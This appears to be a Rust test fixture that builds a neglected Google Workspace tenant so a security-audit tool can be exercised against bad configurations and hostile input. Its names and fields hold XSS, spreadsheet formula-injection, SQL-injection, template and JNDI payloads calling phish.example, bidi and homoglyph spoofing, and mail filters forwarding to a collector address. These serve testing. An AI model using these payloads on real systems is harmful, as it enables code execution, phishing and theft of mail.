//! A tenant nobody looked after: every check fails somewhere, names are hostile, some mailboxes refuse.

use chrono::{DateTime, Duration, Utc};
use serde_json::{Value, json};

use super::foundation::Foundation;
use super::mailbox::{Delegate, Filter, ForwardingAddress, MailService, SendAs};
use super::project::KeyOrigin;
use super::{typical, typical_cloud};

const HOSTILE_UNIT: &str = "/Sales/<b onclick=alert(9)>\"quoted\" & 'single'";

pub(super) fn found(seed: u64, now: DateTime<Utc>) -> (Foundation, &'static str) {
    let mut tenant = Foundation::new(seed, now, "Example Leftovers");
    tenant.domain("example.org", false, true);
    tenant.domain("never-verified.example", false, false);
    tenant.domain("xn--bcher-kva.example", false, true);
    tenant.domain_alias("old-brand.example", false);
    tenant.org_unit(HOSTILE_UNIT, "=1+1");
    typical::administrators(&mut tenant);
    too_many_administrators(&mut tenant);
    typical::senders(&mut tenant);
    typical::states(&mut tenant);
    hostile(&mut tenant);
    unverified(&mut tenant);
    guests(&mut tenant);
    refusing(&mut tenant);
    typical::clients(&mut tenant);
    clients(&mut tenant);
    typical_cloud::furnish(&mut tenant);
    typical::policies(&mut tenant);
    let forwarding = serde_json::json!({ "enableAutoForwarding": true });
    tenant.set(HOSTILE_UNIT, "gmail.auto_forwarding", forwarding);
    tenant.group("mailroom", "Mail room", &["bruno.costa", "night-shift", "temp@contractor.example"]);
    tenant.set_up_mail_clients();
    (tenant, "auditor@example.com")
}

/// Seven super administrators in all; one asleep, one without a second step.
fn too_many_administrators(tenant: &mut Foundation) {
    let asleep = tenant.days_ago(400);
    let admin = tenant.hire_as("admin", "Shared", "Administrator");
    admin.super_admin = true;
    admin.enrolled_in_two_step = false;
    admin.enforced_in_two_step = false;
    let sleeper = tenant.hire_as("admin-backup", "Backup", "Administrator");
    sleeper.super_admin = true;
    sleeper.last_login_at = Some(asleep);
}

/// Text as attackers write it. Every reader of the tenant has to survive these.
fn hostile(tenant: &mut Foundation) {
    let long = "Wolfeschlegelsteinhausenbergerdorff".repeat(12);
    let names: [(&str, &str, &str); 12] = [
        ("script", "<script>alert(1)</script>", "</td></table><img src=x onerror=alert(2)>"),
        ("formula", "=HYPERLINK(\"https://phish.example/?x=\"&A1,\"open\")", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("plus", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
        ("tab", "\t=1+1", "\r\n=2+2"),
        ("bidi", "\u{202e}gpj.tnemyap", "\u{2066}isolated\u{2069}"),
        ("zero-width", "Hel\u{200b}ena", "Str\u{feff}and"),
        ("control", "Bell\u{7}Escape\u{1b}[31mred\u{1b}[0m", "Nul\u{0}Delete\u{7f}"),
        ("long", &long, &long),
        ("unicode", "Zoë 🦀 李", "Ægir-Þór ﷽ Ω"),
        ("quotes", "Robert\"); DROP TABLE users;--", "O'Brien, \"Bob\""),
        ("template", "{{constructor.constructor('alert(3)')()}}", "${jndi:ldap://phish.example/a}"),
        ("markdown", "[click](javascript:alert(4))", "| a | b |\n|---|---|"),
    ];
    for (login, given, family) in names {
        let person = tenant.hire_as(&format!("hostile-{login}"), given, family);
        person.org_unit = HOSTILE_UNIT.to_owned();
        person.mailbox.display_name = format!("{given} {family}");
        person.mailbox.signature = "<div onclick=\"alert(5)\">Kind regards</div>".to_owned();
        person.mailbox.send_as = vec![SendAs {
            email: format!("{login}@phish.example"),
            display_name: given.to_owned(),
            reply_to: "\"><script>alert(6)</script>@phish.example".to_owned(),
            ..SendAs::default()
        }];
        person.mailbox.filters = vec![Filter::new(
            login,
            json!({ "from": family, "query": given }),
            json!({ "forward": "collector@phish.example" }),
        )];
        // Gmail makes such a filter only for an address that is listed. One was removed later.
        if login != "script" {
            person.mailbox.forwarding_addresses =
                vec![ForwardingAddress { email: "collector@phish.example".to_owned(), status: "accepted" }];
        }
        person.mailbox.delegates =
            vec![Delegate { email: "admin@example.com".to_owned(), status: "accepted" }];
    }
    // Letters that look like the chief's.
    let lookalike = tenant.hire_as("lookalike", "Неlena", "Strаnd");
    let forwarding = |email: &str, status| ForwardingAddress { email: email.to_owned(), status };
    lookalike.mailbox.forwarding_addresses = vec![
        forwarding("collector@phish.example", "accepted"),
        forwarding("not-yet@phish.example", "pending"),
    ];
    let delegate = |email: &str, status| Delegate { email: email.to_owned(), status };
    lookalike.mailbox.delegates = vec![
        delegate("admin-backup@example.com", "accepted"),
        delegate("nobody-any-more@example.com", "accepted"),
        delegate("landing-page@example.com", "pending"),
        delegate("hostile-script@example.com", "expired"),
        delegate("hostile-plus@example.com", "rejected"),
        // Assumed: Gmail goes on listing those who were suspended, archived or deleted later.
        delegate("zoe.martin@example.com", "accepted"),
        delegate("doris.ebner@example.com", "accepted"),
        delegate("former.colleague@example.com", "accepted"),
        // Assumed: a group's row is like a user's, and accepted: its members confirm nothing.
        delegate("mailroom@example.com", "accepted"),
    ];
    lookalike.mailbox.filters = vec![
        Filter::new("lists", json!({ "query": "list:(developers.example.org)" }), Value::Null),
        Filter::new(
            "everything",
            json!({ "size": 1, "sizeComparison": "larger" }),
            json!({ "removeLabelIds": ["INBOX", "UNREAD"] }),
        ),
        Filter::new("no criteria", Value::Null, json!({ "addLabelIds": ["Label_3"] })),
        Filter::new("warnings", json!({ "query": long_query() }), json!({ "addLabelIds": ["TRASH"] })),
    ];
    lookalike.mailbox.send_as = vec![SendAs {
        email: "helena.strand@ехаmple.example".to_owned(),
        display_name: "Helena Strand".to_owned(),
        ..SendAs::default()
    }];
}

/// Gmail takes queries of 1,500 characters (<https://github.com/mbrt/gmailctl/issues/148>).
fn long_query() -> String {
    let senders: Vec<String> = (0..45).map(|number| format!("from:alerts-{number}@vendor.example")).collect();
    format!("subject:(security alert) AND ({})", senders.join(" OR "))
}

/// Addresses in a domain that the tenant never proved to own.
fn unverified(tenant: &mut Foundation) {
    let person = tenant.hire_as("landing-page", "Landing", "Page");
    person.aliases = vec!["hello@never-verified.example".to_owned()];
    person.mailbox.send_as =
        vec![SendAs { display_name: "Hello".to_owned(), ..SendAs::native("hello@never-verified.example") }];
}

/// Two guests: the primary address of one is Google's for guests, of the other the guest's own. Somebody inside
/// sends as one of them, and has the answers sent there.
fn guests(tenant: &mut Foundation) {
    let guest = tenant.invite("mika.berg@agency.example", "Mika", "Berg");
    guest.created_at -= Duration::days(60);
    let other = tenant.invite("noor.haddad@agency.example", "Noor", "Haddad");
    other.primary_email = "noor.haddad@agency.example".to_owned();
    let host = tenant.hire_as("campaigns", "Campaign", "Desk");
    host.mailbox.send_as = vec![SendAs {
        email: "mika.berg@agency.example".to_owned(),
        display_name: "Campaign Desk".to_owned(),
        reply_to: "noor.haddad@agency.example".to_owned(),
        ..SendAs::default()
    }];
}

fn refusing(tenant: &mut Foundation) {
    tenant.hire_as("vault-hold", "Vault", "Hold").mailbox.service = MailService::Refused;
    tenant.hire_as("context-aware", "Context", "Aware").mailbox.service = MailService::Refused;
}

fn clients(tenant: &mut Foundation) {
    tenant.account("everything", "=cmd|' /C calc'!A0 <script>alert(7)</script>").description =
        "\u{202e}lacitirc \u{1b}[2J".to_owned();
    tenant.key(KeyOrigin::Uploaded, 2000);
    tenant.key(KeyOrigin::UserManaged, 700);
    tenant.key(KeyOrigin::UserManaged, 3);
    tenant.delegate(&[
        "https://mail.google.com/",
        "gmail.modify",
        "gmail.compose",
        "gmail.settings.sharing",
        "admin.directory.user.security",
        "admin.directory.rolemanagement",
        "cloud-platform",
        "ediscovery",
        "drive",
    ]);
    tenant.account("switched-off", "Switched off, still delegated").disabled = true;
    tenant.key(KeyOrigin::UserManaged, 800);
    tenant.delegate(&["gmail.send"]);

    let vendor = tenant.foreign_client_id(3);
    tenant.grant(
        "<img src=x onerror=alert(8)>",
        &vendor,
        &["https://mail.google.com/", "https://apps-apis.google.com/a/feeds/compliance/audit/"],
    );
    let scheduler = "407408718192-abc123def.apps.googleusercontent.com";
    tenant.grant("Scheduler", scheduler, &["calendar"]);
    tenant.log_token_request(9, scheduler, "Scheduler", &["calendar"]);
    // The audit's own key is old and without an end here.
    let made_at = tenant.days_ago(500);
    let key = tenant.audit_key();
    key.valid_after = made_at;
    key.valid_before = None;
}
